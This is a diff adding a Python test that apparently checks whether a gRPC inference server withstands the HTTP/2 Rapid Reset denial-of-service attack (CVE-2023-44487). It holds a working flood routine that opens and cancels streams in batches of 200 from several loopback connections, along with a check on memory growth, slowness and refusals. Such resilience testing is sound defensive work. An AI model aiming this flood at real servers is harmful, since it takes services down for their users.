@@ -1,0 +1,41 @@
+"""Streams that are opened and reset at once, as fast as they go (CVE-2023-44487)."""
+
+import struct
+import threading
+
+import http2
+
+FLAGS = []
+SHORT = {"resets": 20_000, "attackers": 2}
+FULL = {"resets": 300_000, "attackers": 2}
+AT_ONCE = 200
+
+
+def opened_and_reset(stream):
+    block = http2.header_block("/recurve.v1.Inference/Generate")
+    cancel = struct.pack(">I", http2.CANCEL)
+    return b"".join(http2.frame(http2.HEADERS, http2.END_HEADERS, stream + 2 * i, block)
+                    + http2.frame(http2.RST_STREAM, 0, stream + 2 * i, cancel)
+                    for i in range(AT_ONCE)), 2 * AT_ONCE
+
+
+def attack(address, resets, attackers):
+    connections = []
+
+    def one(number):
+        parts = [opened_and_reset] * (resets // attackers // AT_ONCE)
+        connections.append(http2.flood(address, f"127.0.0.{2 + number}", parts))
+
+    threads = [threading.Thread(target=one, args=(number,)) for number in range(attackers)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    return f"{resets} streams were opened and reset on {sum(connections)} connections"
+
+
+def check(result, size):
+    if result.grown() > 100e6:
+        yield f"resident memory grew by {result.grown() / 1e6:.0f} MB, wanted under 100"
+    yield from result.too_slow()
+    yield from result.refusals()
